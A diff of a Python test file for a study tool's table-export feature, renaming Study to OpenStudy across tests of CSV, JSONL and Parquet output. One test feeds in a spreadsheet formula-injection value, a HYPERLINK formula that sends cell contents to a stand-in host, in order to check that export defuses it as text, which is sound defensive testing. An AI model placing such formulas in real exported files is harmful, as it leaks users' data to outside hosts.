@@ -19,11 +19,11 @@ from portrayal.study.exporting import FORMATS, export_tables
 from portrayal.study.image_table import image_table
 from portrayal.study.plan import plan
 from portrayal.study.run_control import RunControl
-from portrayal.study.study import Study
+from portrayal.study.study import OpenStudy
 
 
 def contents(study: Path, name: str) -> list[dict[str, Any]]:
-    found: list[dict[str, Any]] = pa.concat_tables(Study(study).workspace.tables[name].batches()).to_pylist(
+    found: list[dict[str, Any]] = pa.concat_tables(OpenStudy(study).workspace.tables[name].batches()).to_pylist(
         maps_as_pydicts="strict"
     )
     return found
@@ -47,13 +47,13 @@ def without_empty_text(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
 @pytest.mark.slow
 @pytest.mark.parametrize("form", FORMATS)
 def test_all_tables_leave_when_none_is_named(finished: Path, tmp_path: Path, form: str) -> None:
-    paths = export_tables(Study(finished), tmp_path / "deep" / "out", form)
+    paths = export_tables(OpenStudy(finished), tmp_path / "deep" / "out", form)
     assert [path.name for path in paths] == [f"{name}.{form}" for name in SCHEMAS]
     assert sorted(paths) == sorted((tmp_path / "deep" / "out").iterdir())
 
 
 def test_what_a_spreadsheet_would_run_leaves_as_text(make_study: Callable[..., Path], tmp_path: Path) -> None:
-    study = Study(make_study(prompts='text,term\n"=HYPERLINK(""http://x/?""&A1)",@a\n-5,+a\n'))
+    study = OpenStudy(make_study(prompts='text,term\n"=HYPERLINK(""http://x/?""&A1)",@a\n-5,+a\n'))
     plan(study, RunControl())
     (path,) = export_tables(study, tmp_path / "out", "csv", ["prompts"])
     with path.open(encoding="utf-8", newline="") as file:
@@ -65,7 +65,7 @@ def test_what_a_spreadsheet_would_run_leaves_as_text(make_study: Callable[..., P
 
 @pytest.mark.parametrize("name", ["prompts", "jobs", "outcomes", "observations", "measurements", "truths"])
 def test_csv_comes_back(finished: Path, tmp_path: Path, name: str) -> None:
-    (path,) = export_tables(Study(finished), tmp_path, "csv", [name])
+    (path,) = export_tables(OpenStudy(finished), tmp_path, "csv", [name])
     with path.open(encoding="utf-8", newline="") as file:
         lines = list(csv.DictReader(file))
     types = {field.name: field.type for field in SCHEMAS[name]}
@@ -75,7 +75,7 @@ def test_csv_comes_back(finished: Path, tmp_path: Path, name: str) -> None:
 
 @pytest.mark.parametrize("name", ["outcomes", "observations", "measurements"])
 def test_jsonl_comes_back(finished: Path, tmp_path: Path, name: str) -> None:
-    (path,) = export_tables(Study(finished), tmp_path, "jsonl", [name])
+    (path,) = export_tables(OpenStudy(finished), tmp_path, "jsonl", [name])
     back = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
     kept = SCHEMAS[name].names
     assert [{column: row[column] for column in kept} for row in back] == contents(finished, name)
@@ -83,7 +83,7 @@ def test_jsonl_comes_back(finished: Path, tmp_path: Path, name: str) -> None:
 
 @pytest.mark.parametrize("form", ["csv", "jsonl"])
 def test_notes_leave_as_codes_and_in_words(finished: Path, tmp_path: Path, form: str) -> None:
-    (path,) = export_tables(Study(finished), tmp_path, form, ["measurements"])
+    (path,) = export_tables(OpenStudy(finished), tmp_path, form, ["measurements"])
     text = path.read_text(encoding="utf-8")
     rows = list(csv.DictReader(text.splitlines())) if form == "csv" else [json.loads(row) for row in text.splitlines()]
     noted = [row for row in rows if "only_images" in str(row["notes"])]
@@ -94,7 +94,7 @@ def test_notes_leave_as_codes_and_in_words(finished: Path, tmp_path: Path, form:
 
 @pytest.mark.parametrize("name", ["outcomes", "observations", "measurements"])
 def test_parquet_comes_back_with_its_types(finished: Path, tmp_path: Path, name: str) -> None:
-    (path,) = export_tables(Study(finished), tmp_path, "parquet", [name])
+    (path,) = export_tables(OpenStudy(finished), tmp_path, "parquet", [name])
     with pq.ParquetFile(path) as file:
         table = file.read()
     assert table.schema == SCHEMAS[name]
@@ -102,7 +102,7 @@ def test_parquet_comes_back_with_its_types(finished: Path, tmp_path: Path, name:
 
 
 def test_empty_tables_leave_with_their_columns(make_study: Callable[..., Path], tmp_path: Path) -> None:
-    study = Study(make_study())
+    study = OpenStudy(make_study())
     csv_path, jsonl, parquet = (export_tables(study, tmp_path, form, ["outcomes"])[0] for form in FORMATS)
     assert csv_path.read_text().replace('"', "").strip().split(",") == SCHEMAS["outcomes"].names
     assert jsonl.read_bytes() == b""
@@ -114,7 +114,7 @@ def test_any_script_survives(make_study: Callable[..., Path], tmp_path: Path) ->
     from portrayal.study.plan import plan
     from portrayal.study.run_control import RunControl
 
-    study = Study(make_study(prompts='text\n"a ""看護師"", 😀"\n'))
+    study = OpenStudy(make_study(prompts='text\n"a ""看護師"", 😀"\n'))
     plan(study, RunControl())
     csv_path, jsonl, _ = (export_tables(study, tmp_path, form, ["prompts"])[0] for form in FORMATS)
     with csv_path.open(encoding="utf-8", newline="") as file:
@@ -124,20 +124,20 @@ def test_any_script_survives(make_study: Callable[..., Path], tmp_path: Path) ->
 
 def test_a_mistyped_table_gets_a_hint_and_no_file(finished: Path, tmp_path: Path) -> None:
     with pytest.raises(UnknownNameError, match="no table named 'outcome'; did you mean 'outcomes'"):
-        export_tables(Study(finished), tmp_path / "out", "csv", ["prompts", "outcome"])
+        export_tables(OpenStudy(finished), tmp_path / "out", "csv", ["prompts", "outcome"])
     assert not (tmp_path / "out").exists()
 
 
 def test_a_file_where_the_folder_should_be_is_one_clear_error(finished: Path, tmp_path: Path) -> None:
     (tmp_path / "out").touch()
     with pytest.raises(StorageError, match="out"):
-        export_tables(Study(finished), tmp_path / "out", "csv", ["prompts"])
+        export_tables(OpenStudy(finished), tmp_path / "out", "csv", ["prompts"])
 
 
 @pytest.mark.parametrize("form", FORMATS)
 def test_images_leave_with_what_was_perceived_when_they_are_named(finished: Path, tmp_path: Path, form: str) -> None:
-    (path,) = export_tables(Study(finished), tmp_path, form, ["images"])
-    rows = image_table(Study(finished)).to_pylist()
+    (path,) = export_tables(OpenStudy(finished), tmp_path, form, ["images"])
+    rows = image_table(OpenStudy(finished)).to_pylist()
     if form == "csv":
         with path.open(encoding="utf-8", newline="") as file:
             found = [(line["file"], line["gender"], line["reason"]) for line in csv.DictReader(file)]
